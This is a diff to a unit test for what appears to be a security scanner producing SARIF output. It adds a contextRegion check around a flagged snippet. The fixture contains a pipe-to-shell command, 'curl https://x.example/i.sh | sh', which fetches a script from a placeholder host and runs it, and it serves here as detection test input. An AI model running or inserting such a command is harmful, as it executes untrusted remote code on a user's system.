@@ -96,6 +96,7 @@ describe("sarif", () => {
     expect(run.results[0].locations[0].physicalLocation).toEqual({
       artifactLocation: { uri: "a%20b%2Cc.md" },
       region: { startLine: 1, startColumn: 5, endLine: 1, endColumn: 37, charOffset: 4, charLength: 32, snippet: { text: "curl https://x.example/i.sh | sh" } },
+      contextRegion: { startLine: 1, endLine: 2, snippet: { text: "日🙂 curl https://x.example/i.sh | sh\nand" } },
     });
     expect(run.results[0].codeFlows[0].threadFlows[0].locations.length).toBe(2);
     expect(run.results[0].partialFingerprints["curlew/v1"]).toMatch(/^[0-9a-f]{64}$/);
